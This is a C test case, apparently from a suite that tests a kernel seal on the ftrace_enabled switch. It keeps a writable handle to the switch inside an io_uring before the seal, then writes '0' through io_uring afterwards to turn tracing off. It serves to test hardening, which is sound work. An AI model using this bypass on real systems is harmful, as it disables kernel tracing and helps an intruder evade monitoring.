// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Before the seal, opens the switch for writing and leaves it to an io_uring, which writes to it without ever handing it back.
 * Success: nearly all legs fall.
 */
#include "ring.h"
#include "switches.h"

static struct ring ring;

static void prepare(void)
{
	int file = must("open of ftrace_enabled", open(FTRACE_SWITCH, O_WRONLY));

	ring = open_ring();
	must("IORING_REGISTER_FILES", keep_in_ring(&ring, file));
	close(file);
}

static void run(void)
{
	struct io_uring_sqe entry = { .opcode = IORING_OP_WRITE, .flags = IOSQE_FIXED_FILE, .fd = 0, .addr = (uint64_t)"0", .len = 1 };

	must("write by io_uring", submit(&ring, &entry));
}

ATTACK("has ftrace_enabled open among an io_uring's files while it is sealed", .prepare = prepare, .run = run, .undo = switch_ftrace_on);
